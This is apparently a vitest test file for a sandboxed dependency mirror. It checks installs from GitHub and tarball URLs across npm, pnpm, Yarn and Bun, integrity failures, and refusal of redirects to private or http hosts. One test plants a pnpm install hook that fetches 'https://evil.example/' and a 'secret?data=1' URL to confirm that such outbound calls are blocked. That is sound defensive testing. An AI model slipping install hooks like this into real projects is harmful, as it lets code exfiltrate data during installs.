import { once } from "node:events";
import { readFile } from "node:fs/promises";
import { request } from "node:http";
import type { Socket } from "node:net";
import { buffer } from "node:stream/consumers";
import { connect } from "node:tls";
import { afterAll, beforeAll, describe, expect, test } from "vitest";
import { BuildFailure } from "../../../domain/shared/errors.ts";
import { type Content, createCheckout } from "../../support/builds/bundle-checkout.ts";
import { createTestMirror } from "../../support/builds/create-bundler.ts";
import { GREETING_PACKAGES, WORDS } from "../../support/builds/greeting-packages.ts";
import { installCheckout, installWithWarnings, readImported } from "../../support/builds/install-checkout.ts";
import { gitReferences, type PublicHosts, startPublicHosts } from "../../support/builds/public-hosts.ts";
import { createTarball, startRegistry, type TestRegistry } from "../../support/builds/test-registry.ts";
import { temporaryFolder } from "../../support/temporary-folder.ts";
import { hazard, verifies } from "../../support/verifies.ts";

const COMMIT = "0123456789abcdef0123456789abcdef01234567";
const CONTENT = "export const far = 'from another host';";
const MANIFEST = JSON.stringify({ name: "far", version: "1.0.0", main: "index.js" });
const FILES = { "package.json": MANIFEST, "index.js": CONTENT };
const ARCHIVE = createTarball(FILES, `far-${COMMIT}`);

let registry: TestRegistry;
let hosts: PublicHosts;
let cache: string;
const opened = new AsyncDisposableStack();
beforeAll(async () => {
  registry = opened.use(await startRegistry(GREETING_PACKAGES));
  cache = opened.use(await temporaryFolder()).path;
  hosts = opened.use(
    await startPublicHosts({
      "github.com/owner/far.git/info/refs?service=git-upload-pack": gitReferences(COMMIT),
      "github.com/owner/far/info/refs?service=git-upload-pack": gitReferences(COMMIT),
      "github.com/owner/far": Buffer.from("A page"),
      [`codeload.github.com/owner/far/tar.gz/${COMMIT}`]: ARCHIVE,
      [`github.com/owner/far/archive/${COMMIT}.tar.gz`]: {
        location: `https://codeload.github.com/owner/far/tar.gz/${COMMIT}`,
      },
      "api.github.com/repos/owner/far/tarball/main": ARCHIVE,
      [`api.github.com/repos/owner/far/tarball/${COMMIT}`]: ARCHIVE,
      [`raw.githubusercontent.com/owner/far/${COMMIT}/package.json`]: Buffer.from(MANIFEST),
      "files.example/far.tgz": createTarball(FILES),
      "files.example/moved.tgz": { location: "https://files.example/far.tgz" },
      "files.example/inside.tgz": { location: "https://private.example/far.tgz" },
      "files.example/plain.tgz": { location: "http://files.example/far.tgz" },
    }),
  );
});
afterAll(() => opened.disposeAsync());

type Files = Readonly<Record<string, Content>>;

const mirror = () => createTestMirror({ registry: registry.url }, cache, hosts.remote);

function project(source: string, packageManager: string, files: Files = {}): Files {
  const manifest = { name: "app", packageManager, dependencies: { far: source, greeting: "^1.0.0" } };
  const settings: Files = packageManager.startsWith("yarn@4") ? { ".yarnrc.yml": "nodeLinker: node-modules\n" } : {};
  return { "package.json": JSON.stringify(manifest), "index.js": "", ...settings, ...files };
}

async function installFailure(files: Files): Promise<BuildFailure> {
  await using checkout = await createCheckout(files);
  const error = await installCheckout(mirror(), checkout).catch((thrown: unknown) => thrown);
  if (error instanceof BuildFailure) return error;
  throw new Error("The install succeeded.");
}

describe("a package outside of the registry", () => {
  test.each([
    ["npm@11.0.0", "github:owner/far"],
    ["npm@11.0.0", "owner/far#main"],
    ["npm@11.0.0", `git+ssh://git@github.com/owner/far.git#${COMMIT}`],
    ["npm@11.0.0", "git+https://github.com/owner/far.git"],
    ["npm@11.0.0", `https://codeload.github.com/owner/far/tar.gz/${COMMIT}`],
    ["npm@11.0.0", "https://files.example/moved.tgz"],
    ["pnpm@10.0.0", "github:owner/far"],
    ["pnpm@10.0.0", "git+ssh://git@github.com/owner/far.git#main"],
    ["pnpm@10.0.0", "https://files.example/far.tgz"],
    ["yarn@1.22.0", "owner/far#main"],
    ["yarn@1.22.0", `git+ssh://git@github.com/owner/far.git#${COMMIT}`],
    ["yarn@1.22.0", "https://files.example/far.tgz"],
    ["yarn@4.18.1", "https://files.example/far.tgz"],
    ["yarn@4.18.1", "github:owner/far"],
    ["bun@1.4.5", "github:owner/far#main"],
    ["bun@1.4.5", "https://files.example/far.tgz"],
  ])("%s installs %s", async (packageManager, source) => {
    await using checkout = await createCheckout(project(source, packageManager));
    await installCheckout(mirror(), checkout);
    expect(await readImported(checkout, "far")).toBe(CONTENT);
  });

  test("a request in a tunnel may have an absolute URL, as npm sends it, and the tunnel decides the host", async () => {
    await using session = await mirror().open(new Set(), { sources: ['"https://files.example/far.tgz"'] });
    const { socketPath, certificateFile } = session;
    const sent = request({ socketPath, method: "CONNECT", path: "files.example:443", agent: false }).end();
    const [, socket] = (await once(sent, "connect")) as [unknown, Socket];
    const ca = await readFile(certificateFile ?? "");
    const secure = connect({ socket, servername: "files.example", ca });
    secure.write("GET http://other.example:443/far.tgz HTTP/1.1\r\nhost: files.example\r\nconnection: close\r\n\r\n");
    expect((await buffer(secure)).toString("latin1")).toMatch(/^HTTP\/1\.1 200 OK\r\n/);
  });

  test("a lockfile of npm with git over ssh is installed by its commit", async () => {
    const resolved = `git+ssh://git@github.com/owner/far.git#${COMMIT}`;
    const dependencies = { far: "github:owner/far" };
    await using checkout = await createCheckout({
      "package.json": JSON.stringify({ name: "app", dependencies }),
      "package-lock.json": JSON.stringify({
        name: "app",
        lockfileVersion: 3,
        packages: { "": { name: "app", dependencies }, "node_modules/far": { version: "1.0.0", resolved } },
      }),
      "index.js": "",
    });
    await installCheckout(mirror(), checkout);
    expect(await readImported(checkout, "far")).toBe(CONTENT);
  });

  test("a lockfile of Bun with a repository of GitHub is installed by its commit", async () => {
    const workspaces = { "": { name: "app", dependencies: { far: "github:owner/far", greeting: "^1.0.0" } } };
    const url = "https://registry.other.example/greeting/-/greeting-1.0.0.tgz";
    const words = { dependencies: { "@scope/words": "2.0.0" } };
    const entries = [
      [`far@github:owner/far#${COMMIT}`, {}, `owner-far-${COMMIT.slice(0, 7)}`],
      ["greeting@1.0.0", url, words, registry.integrityOf("greeting")],
      ["@scope/words@2.0.0", "", {}, registry.integrityOf("@scope/words")],
    ].map((entry) => {
      const name = JSON.stringify(entry[0]).replace(/(?<=..)@.*/, '"');
      return `    ${name}: ${JSON.stringify(entry).replaceAll('","', '", "')}`;
    });
    const lock = `{\n  "lockfileVersion": 1,\n  "workspaces": ${JSON.stringify(workspaces)},\n  "packages": {\n${entries.join(",\n")}\n  }\n}\n`;
    await using checkout = await createCheckout(project("github:owner/far", "bun@1.4.5", { "bun.lock": lock }));
    const { warnings } = await installWithWarnings(mirror(), checkout);
    expect(warnings).toEqual([]);
    expect(await readImported(checkout, "far")).toBe(CONTENT);
    expect(await readImported(checkout, "greeting", "@scope/words")).toBe(WORDS);
  });

  test("a lockfile whose hash does not match the downloaded file ends the install", async () => {
    const wrong = `sha512-${Buffer.alloc(64).toString("base64")}`;
    const dependencies = { far: "https://files.example/far.tgz" };
    const entry = { version: "1.0.0", resolved: dependencies.far, integrity: wrong };
    const failure = await installFailure({
      "package.json": JSON.stringify({ name: "app", dependencies }),
      "package-lock.json": JSON.stringify({
        name: "app",
        lockfileVersion: 3,
        packages: { "": { name: "app", dependencies }, "node_modules/far": entry },
      }),
    });
    expect(failure.message).toContain("integrity checksum failed");
  });

  verifies(
    hazard(49),
    "a redirect to a private address or to http ends the install, and the error says why",
    async () => {
      expect(await installFailure(project("https://files.example/inside.tgz", "npm@11.0.0"))).toMatchObject({
        kind: "user",
        message:
          "far could not be fetched from https://files.example/inside.tgz: private.example has no public address.",
      });
      expect((await installFailure(project("https://files.example/plain.tgz", "npm@11.0.0"))).message).toContain(
        "http://files.example is not an https URL",
      );
      expect((await installFailure(project("github:owner/gone", "npm@11.0.0"))).message).toBe(
        "far could not be fetched from https://github.com/owner/gone.git/info/refs?service=git-upload-pack: github.com responded with status 404.",
      );
    },
  );

  verifies(hazard(49), "code of an install reaches only the URLs that the project names", async () => {
    const count = hosts.requests.length;
    const attempt = `const { execFileSync } = require("node:child_process");
      for (const url of ["https://files.example/secret?data=1", "https://evil.example/", "https://github.com/other/repository"])
        try { execFileSync("node", ["-e", "fetch(process.argv[1]).then((r) => console.log('STATUS', r.status))", url], { stdio: "inherit" }); } catch {}`;
    await using checkout = await createCheckout(
      project("https://files.example/far.tgz", "pnpm@10.0.0", { ".pnpmfile.cjs": attempt }),
    );
    await installCheckout(mirror(), checkout);
    const requests = hosts.requests.slice(count).map(({ url }) => url);
    expect([...new Set(requests)]).toEqual(["files.example/far.tgz"]);
  });
});
